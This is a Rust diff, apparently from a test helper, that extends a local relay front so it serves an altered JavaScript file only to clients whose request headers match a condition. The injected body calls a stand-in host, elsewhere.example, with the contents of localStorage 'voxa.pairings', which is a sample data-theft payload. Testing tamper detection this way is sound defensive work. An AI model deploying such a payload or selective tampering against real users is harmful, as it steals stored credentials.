@@ -132,6 +132,16 @@ pub fn drop_next_up(armed: Arc<AtomicBool>, dropped: Arc<AtomicUsize>) -> Hook {
 /// one request per connection (a kept-alive request is forwarded with `Connection: close`, so
 /// every request passes through the front).
 pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
+    altering_front_for(relay, altered, |_| true).await
+}
+
+/// [`altering_front`] that alters the file only for requests whose head (lowercased) `asks_for`
+/// says so, and passes the others on: a relay that shows its altered page to some clients only.
+pub(crate) async fn altering_front_for(
+    relay: std::net::SocketAddr,
+    altered: &'static str,
+    asks_for: fn(&str) -> bool,
+) -> std::net::SocketAddr {
     use tokio::io::{AsyncReadExt, AsyncWriteExt};
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = listener.local_addr().unwrap();
@@ -146,7 +156,9 @@ pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'stati
                     }
                     head.push(byte[0]);
                 }
-                if head.starts_with(format!("GET {altered} ").as_bytes()) {
+                if head.starts_with(format!("GET {altered} ").as_bytes())
+                    && asks_for(&String::from_utf8_lossy(&head).to_ascii_lowercase())
+                {
                     let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
                     let answer =
                         format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
